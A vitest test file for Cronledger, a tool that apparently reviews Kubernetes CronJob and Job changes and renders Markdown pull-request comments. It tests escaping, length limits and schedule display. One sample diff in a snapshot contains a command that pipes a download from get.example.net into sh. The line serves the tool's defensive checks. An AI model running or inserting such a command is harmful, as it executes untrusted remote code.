// The comment and the job summary: what reviewers read, within GitHub's limits, with nothing of an adversary's in it but code.
import { Buffer } from 'node:buffer';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import type { CheckReport } from '../../src/outcome.ts';
import { COMMENT_LIMIT, markdownFormat, renderMarkdown } from '../../src/report/markdown.ts';
import { cellCode, codeBlock, codeElement, codeSpan, markdownText } from '../../src/report/markdown-escape.ts';
import { HOSTILE_TEXTS, HUGE_TEXTS, hostileCheckReport, hostileListReport } from '../support/hostile-report.ts';
import { harmlessCheckReport, sampleCheckReport, sampleListReport } from '../support/sample-report.ts';
import { readMarkdown } from './readers/markdown-text.ts';

test('a violation', () => {
  expect(markdownFormat.render(sampleCheckReport())).toMatchInlineSnapshot(`
    "## Cronledger: violation

    **3 findings block this change, 1 approval is missing and 1 thing could not be checked.**

    Compared \`origin/main (3f2a9c1b7d04)\` with \`HEAD (9b1c7d2e0a3f)\`. 7 files changed, 5 files read, 6 workloads checked. 2 workloads that this change does not touch are not in the inventory. 3 files: 1 manifest, 1 input of 1 rendering, 1 inert. 6 findings: 3 block, 1 is covered by an exception.

    - Mend what could not be checked; each problem says how.
    - Mend what blocks; each finding says how.
    - Where the manifests are right, bring the inventory into line and commit it:

      \`\`\`sh
      cronledger inventory add Job/kube-system/node-cleanup
      \`\`\`

    - Ask for the missing approvals: \`@acme/platform-security\`.

    ### Approvals

    - **missing**: platform security (2 of \`@acme/platform-security\` and \`@carol\`), approved by \`@carol\`<br>Job \`kube-system\`/\`node-cleanup\` (new)<br>\`@mallory\` does not count: opened this pull request.<br>May still be given by \`@acme/platform-security\`.<br>The members of \`@acme/platform-security\` cannot be read.
    - **given**: the owner of the workload (\`@acme/billing\`), approved by \`@alice\`<br>CronJob \`billing\`/\`nightly-report\` (schedule, command, image-source)

    ### \`CronJob billing/nightly-report\` changes its schedule, image source, command and environment

    At \`apps/billing/nightly-report.yaml:1:1\`

    | Field | Before | After |
    |---|---|---|
    | \`schedule\` | \`0 2 * * *\` — At 02:00 (Etc/UTC) | \`*/1 * * * *\` — Every minute (Etc/UTC) |
    | \`containers[0].image\` | \`ghcr.io/acme/report:1.4.2\` | \`docker.io/acme-tools/report:latest\` |
    | \`backoffLimit\` | absent | \`0\` |

    \`\`\`diff
    @@ ConfigMap report-scripts: run.sh @@
    + curl -s get.example.net/r | sh
    \`\`\`

    - **critical, blocks** \`image-registry-not-allowed\` at \`apps/billing/nightly-report.yaml:19:22\`<br>The image \`docker.io/acme-tools/report:latest\` of container \`report\` is not from an allowed repository.<br>**Fix:** Use an image that \`images.allow\` in the config matches.
    - **high, blocks** \`schedule-too-frequent\` at \`apps/billing/nightly-report.yaml:7:13\`<br>CronJob \`billing\`/\`nightly-report\` runs every minute; the shortest interval allowed is 5 minutes.<br>**Fix:** Run it less often, or ask for an exception in its inventory entry.

    ### \`Job kube-system/node-cleanup\` is new

    At \`charts/tools/templates/cleanup.yaml:3:3 (in the template), environment prod\`

    | Field | Value |
    |---|---|
    | runs | once |
    | image | \`alpine:3\` |
    | service account | \`cluster-admin\` |
    | hook | \`helm.sh/hook: post-install\` |
    | source | \`helm charts/tools (release tools, values.yaml)\` |

    - **critical, blocks** \`job-not-in-inventory\` at \`charts/tools/templates/cleanup.yaml:3:3 (in the template)\`<br>Job \`kube-system\`/\`node-cleanup\` is not in the inventory of approved scheduled workloads.<br>**Fix:** Remove it, or write its entry with \`cronledger inventory add\` and have the entry approved.
    - **medium** \`run-as-root\` at \`charts/tools/values.yaml:4:1 (in the values)\`<br>Container \`cleanup\` may run as root.<br>**Fix:** Set \`securityContext.runAsNonRoot\`.

    Inventory entry: \`cronledger inventory add Job/kube-system/node-cleanup\`

    <details><summary>or paste it into <code>.cronledger/inventory/kube-system.yaml</code></summary>

    \`\`\`yaml
      - kind: Job
        namespace: kube-system
        name: node-cleanup
        owner: '@acme/platform'
        purpose: Say what it is for.
        source: charts/tools
        serviceAccount: cluster-admin
        images: ['docker.io/library/alpine:*']
        digest: sha256:4b1c9e074b1c9e074b1c9e074b1c9e074b1c9e074b1c9e074b1c9e074b1c9e07
    \`\`\`

    </details>

    ### \`CronJob ops/queue-drain\` changes its image version

    At \`apps/ops/queue-drain.yaml:1:1\`

    | Field | Before | After |
    |---|---|---|
    | \`containers[0].image\` | \`ghcr.io/acme/drain:6\` | \`ghcr.io/acme/drain:7\` |

    - **excepted** \`schedule-too-frequent\` at \`apps/ops/queue-drain.yaml:6:13\`<br>CronJob \`ops\`/\`queue-drain\` runs every minute; the shortest interval allowed is 5 minutes.<br>An exception in the inventory covers it until 2027-01-01: The queue must be drained every minute.

    ### \`CronJob ops/legacy-sync\` is removed

    At \`apps/ops/legacy.yaml:1:1\`

    | Field | Value |
    |---|---|
    | runs | \`@hourly\` — Every hour |
    | image | \`ghcr.io/acme/sync:2.0\` |
    | service account | \`default\` |

    ### Other findings

    - **low** \`inventory-expired\` at \`.cronledger/inventory/shop.yaml:31:5\`<br>The entry of CronJob \`shop\`/\`prices\` expires on 2026-12-20.<br>**Fix:** Renew it with \`cronledger inventory update\`, or remove the workload.

    ### Could not be checked

    - \`render-failed\` at \`charts/api\`<br>\`helm template\` stopped: values.yaml has no key \`image.tag\`.<br>**Fix:** Mend the chart, or name its values files under \`sources\` in the config.
    "
  `);
});

test('a pass', () => {
  expect(markdownFormat.render(harmlessCheckReport())).toMatchInlineSnapshot(`
    "## Cronledger: pass

    **1 scheduled workload changed, nothing blocks.**

    Compared \`origin/main (3f2a9c1b7d04)\` with \`HEAD (9b1c7d2e0a3f)\`. 1 file changed, 1 file read, 1 workload checked. 3 files: 1 manifest, 1 input of 1 rendering, 1 inert. 1 finding: none blocks, 1 is covered by an exception.

    ### \`CronJob ops/queue-drain\` changes its image version

    At \`apps/ops/queue-drain.yaml:1:1\`

    | Field | Before | After |
    |---|---|---|
    | \`containers[0].image\` | \`ghcr.io/acme/drain:6\` | \`ghcr.io/acme/drain:7\` |

    - **excepted** \`schedule-too-frequent\` at \`apps/ops/queue-drain.yaml:6:13\`<br>CronJob \`ops\`/\`queue-drain\` runs every minute; the shortest interval allowed is 5 minutes.<br>An exception in the inventory covers it until 2027-01-01: The queue must be drained every minute.
    "
  `);
});

test('a list', () => {
  expect(markdownFormat.render(sampleListReport())).toMatchInlineSnapshot(`
    "## Scheduled workloads

    4 scheduled workloads, 2 not in the inventory.

    | Workload | Runs | Inventory | Place |
    |---|---|---|---|
    | \`CronJob billing/nightly-report\` | \`*/1 * * * *\` — Every minute (Etc/UTC) | listed | \`apps/billing/nightly-report.yaml:1:1\` |
    | \`CronJob ops/queue-drain\` | \`* * * * *\` — Every minute, suspended | listed | \`apps/ops/queue-drain.yaml:1:1\` |
    | \`Job shop/migrate-*\` | once | **not listed** | \`apps/shop/migrate.yaml:12:1\` |
    | \`Job kube-system/node-cleanup\` | once | **not listed** | \`charts/tools/templates/cleanup.yaml:3:3 (in the template), environment prod\` |

    ### Could not be checked

    - \`unreadable-manifest\` at \`apps/shop/broken.yaml\`<br>The file is not valid YAML: line 4 is indented with a tab.<br>**Fix:** Indent it with spaces.
    "
  `);
});

describe('markdownText', () => {
  test.each([
    ['The image `a/b:1` is not allowed.', 'The image `a/b:1` is not allowed.'],
    ['Ask @acme/security (or @bob), please.', 'Ask `@acme/security` (or `@bob`), please.'],
    ['fixes #1, GH-2', 'fixes `#1`, `GH-2`'],
    ['see https://a.example/b.', 'see `https://a.example/b`.'],
    ['a <b> & c', 'a `<b> &` c'],
    ['it is 0 2 * * * now', 'it is 0 2 `* * *` now'],
    ['snake_case and 1.5 and 2026-10-01', '`snake_case` and 1.5 and 2026-10-01'],
    ['$`x`$', '`$x$`'],
    ['one `two', 'one `two`'],
    ['commit a1b2c3d4', 'commit `a1b2c3d4`'],
    [':tada: - -- x: y', '`:tada`: `- --` x: y'],
    ['a\nb', '`a\\nb`'],
  ])('%j', (text, expected) => expect(markdownText(text)).toBe(expected));
});

test('code spans and blocks have longer fences than what is in them', () => {
  expect(codeSpan('a``b`')).toBe('``` a``b` ```');
  expect(codeSpan('')).toBe('` `');
  expect(codeSpan(' a ')).toBe('`  a  `');
  expect(codeBlock('````\na\n', 'yaml')).toBe('`````yaml\n````\na\n`````');
  expect(cellCode('a|b\\|c')).toBe('`a\\|b\\u{5c}\\|c`');
  expect(codeElement('<b>`|')).toBe('<code>&lt;b&gt;`|</code>');
});

test('no text of an adversary is read as prose, whatever it is made of', () => {
  const bits = fc.oneof(
    fc.constantFrom(
      '`',
      '``',
      '$',
      '@',
      '#',
      '1',
      'a',
      ' ',
      '\\',
      '|',
      '[',
      ']',
      '(',
      ')',
      '<',
      '>',
      '!',
      '*',
      '_',
      '~',
      '-',
      ':',
      '.',
    ),
    fc.constantFrom('www.', 'http://', '\n', '&', '&#64;', 'GH-1', 'mailto:', 'a@b.c', 'deadbee', '1.', '- ', '```'),
    fc.constantFrom(...HOSTILE_TEXTS),
  );
  const texts = fc.array(bits, { maxLength: 12 }).map(parts => parts.join(''));
  fc.assert(
    fc.property(texts, text => {
      const lines = [
        `x ${markdownText(text)}`,
        `x ${codeSpan(text)}`,
        `| ${cellCode(text)} | ${cellCode(`|${text}`)} |`,
      ];
      const { prose, closed } = readMarkdown([...lines, codeBlock(text, ''), 'end'].join('\n'));
      expect(closed).toBe(true);
      expect(prose).toHaveLength(4);
      expect(prose[3]).toBe('end');
      expect(prose.join('\n')).not.toMatch(/[@#<>`$\\~_{}[\]*&]|GH-\d|:\/\/|www\.|mailto:/);
      // The bars of the row are its own three: in a cell each other one is escaped, also for a reader that knows no code spans.
      expect(lines[2]?.replace(/\\[\\|]/g, '').split('|')).toHaveLength(4);
    }),
    { seed: 1, numRuns: 1_500 },
  );
});

function flooded(times: number): CheckReport {
  const sample = sampleCheckReport();
  const copies = Array.from({ length: times }, (_, index) => index);
  return {
    ...sample,
    changes: copies.flatMap(index =>
      sample.changes.map(change => ({
        ...change,
        workload: {
          ...change.workload,
          namespace: `${change.workload.namespace}-${index}`,
          location: { ...change.workload.location, path: `${index}/${change.workload.location.path}` },
        },
      })),
    ),
    findings: copies.flatMap(index =>
      sample.findings.map(finding => ({
        ...finding,
        workload:
          finding.workload === null
            ? null
            : { ...finding.workload, namespace: `${finding.workload.namespace}-${index}` },
      })),
    ),
    suggestedEdits: [],
    needs: copies.flatMap(index => sample.needs.map(need => ({ ...need, name: `${need.name} ${index}` }))),
    problems: copies.flatMap(index => sample.problems.map(problem => ({ ...problem, path: `charts/${index}` }))),
  };
}

describe('limits', () => {
  test.each([
    ['a flood', flooded(300), COMMENT_LIMIT],
    ['a flood in a summary', flooded(700), 1_048_576],
    ['hostile text', hostileCheckReport(), COMMENT_LIMIT],
    ['hostile text, less room', hostileCheckReport(), 20_000],
    ['huge text', hostileCheckReport(HUGE_TEXTS), COMMENT_LIMIT],
    ['a hostile list', hostileListReport(), 8_000],
  ])('%s fits, and no fence is left open', (_, report, limit) => {
    const text = renderMarkdown(report, { limit });
    expect(Buffer.byteLength(text)).toBeLessThanOrEqual(limit);
    expect(Buffer.byteLength(text)).toBeGreaterThan(limit / 2);
    expect(readMarkdown(text).closed).toBe(true);
  });

  test('worst first, something of everything, and what is left out is counted', () => {
    const text = renderMarkdown(flooded(300), { limit: COMMENT_LIMIT });
    const titles = text.split('\n').filter(line => line.startsWith('### '));
    expect(titles).toContain('### Approvals');
    expect(titles).toContain('### Other findings');
    expect(titles).toContain('### Could not be checked');
    expect(titles[1]).toMatch(/^### `CronJob billing-0\/nightly-report` changes/);
    expect(titles.some(title => title.includes('queue-drain'))).toBe(false);
    const shown = titles.length - 3;
    expect(text).toContain(
      `**${(1_200 - shown).toLocaleString('en-US')} more workloads are left out for length; the JSON report has everything.**`,
    );
    expect(text).toContain(
      '**900 findings block this change, 300 approvals are missing and 300 things could not be checked.**',
    );
  });

  test('problems do not push out what was found', () => {
    const { problems } = flooded(5_000);
    const text = renderMarkdown({ ...sampleCheckReport(), problems }, { limit: COMMENT_LIMIT });
    for (const { workload } of sampleCheckReport().changes)
      expect(text).toContain(`${workload.namespace}/${workload.name}`);
    expect(text).toMatch(/\*\*[\d,]+ more problems are left out/);
  });

  test('a workload that is too long to be shown is named', () => {
    const [first] = sampleCheckReport().changes;
    const [field] = first?.fields ?? [];
    if (first === undefined || field === undefined) throw new Error('There is one.');
    const lines = Array.from({ length: 14 }, (_, index) => `${index} ${'x'.repeat(180)}`).join('\n');
    const fields = Array.from({ length: 15 }, (_, index) => ({
      ...field,
      path: `${index}`,
      before: lines,
      after: `y\n${lines.replaceAll('x', 'y')}`,
    }));
    const text = renderMarkdown({ ...sampleCheckReport(), changes: [{ ...first, fields }] }, { limit: 20_000 });
    expect(text).toContain('### `CronJob billing/nightly-report` changes');
    expect(text).toContain('Too long to be shown here: 2 findings, 2 blocking. The JSON report has everything.');
  });

  test('with hardly any room there is the verdict, with none there is nothing', () => {
    expect(renderMarkdown(sampleCheckReport(), { limit: 200 })).toBe(
      '**Cronledger: Violation: 3 findings block this change, 1 approval is missing and 1 thing could not be checked.**\n',
    );
    expect(renderMarkdown(sampleCheckReport(), { limit: 10 })).toBe('');
  });

  test('what fits is shown whole', () => {
    expect(renderMarkdown(sampleCheckReport(), { limit: COMMENT_LIMIT })).toBe(
      markdownFormat.render(sampleCheckReport()),
    );
    expect(markdownFormat.render(sampleCheckReport())).not.toContain('left out');
  });
});

describe('the next runs', () => {
  const now = new Date('2026-11-24T10:00:00Z');
  const [changed] = sampleCheckReport().changes;
  if (changed === undefined || changed.after === null) throw new Error('There is one.');
  const { after } = changed;
  const shown = (schedule: string | null, timeZone: string | null, suspend = false): string =>
    renderMarkdown(
      {
        ...sampleCheckReport(),
        changes: [{ ...changed, classes: ['schedule'], after: { ...after, schedule, timeZone, suspend } }],
      },
      { limit: COMMENT_LIMIT, now },
    );

  test('are shown for a schedule that changes, in UTC', () => {
    expect(shown('0 2 * * *', 'Europe/Paris')).toContain(
      'Next runs: 2026-11-25 01:00, 2026-11-26 01:00 and 2026-11-27 01:00 UTC.',
    );
  });

  test.each([
    ['once', null, null, false],
    ['suspended', '0 2 * * *', null, true],
    ['never', '0 0 30 2 *', null, false],
    ['what the API server refuses', '@every never `x`', null, false],
    ['a zone that is none', '0 2 * * *', 'Mars/`Base`', false],
    ['far too long', `${'0,'.repeat(5000)}0 * * * *`, null, false],
  ] as const)('are left out for %s', (_what, schedule, timeZone, suspend) => {
    expect(shown(schedule, timeZone, suspend)).not.toContain('Next runs');
  });

  test('are left out where the clock is not given', () => {
    expect(renderMarkdown(sampleCheckReport(), { limit: COMMENT_LIMIT })).not.toContain('Next runs');
  });
});
